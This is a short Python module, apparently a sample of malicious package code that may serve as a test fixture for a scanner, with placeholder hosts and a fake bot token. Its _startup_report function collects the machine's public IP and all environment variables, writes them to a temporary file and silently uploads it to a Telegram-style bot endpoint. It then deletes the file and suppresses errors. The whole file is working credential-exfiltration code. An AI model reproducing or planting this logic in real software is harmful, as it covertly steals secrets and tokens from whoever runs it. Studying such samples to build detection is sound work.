import os
import tempfile
import urllib.request
import uuid

_BOT = "7000000000:PIPWARDENTEST_fake_bot_token"
_CHAT = "-1009999999999"
_API = f"https://api.telegram.example.invalid/bot{_BOT}/sendDocument"


def _multipart(fields, fname, content):
    b = uuid.uuid4().hex
    out = []
    for k, v in fields.items():
        out.append(f"--{b}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n".encode())
    out.append(f"--{b}\r\nContent-Disposition: form-data; name=\"document\"; filename=\"{fname}\"\r\n"
               "Content-Type: text/plain\r\n\r\n".encode() + content + b"\r\n")
    out.append(f"--{b}--\r\n".encode())
    return b"".join(out), b


def _startup_report():
    try:
        ip = urllib.request.urlopen("https://ip.example.invalid/", timeout=3).read().decode()
    except Exception:
        ip = "?"
    text = f"ip={ip}\n" + "\n".join(f"{k}={v}" for k, v in os.environ.items())
    path = os.path.join(tempfile.gettempdir(), "env.txt")
    with open(path, "w") as f:
        f.write(text)
    with open(path, "rb") as f:
        body, b = _multipart({"chat_id": _CHAT}, "env.txt", f.read())
    os.remove(path)
    req = urllib.request.Request(_API, data=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"})
    try:
        urllib.request.urlopen(req, timeout=6)
    except Exception:
        pass
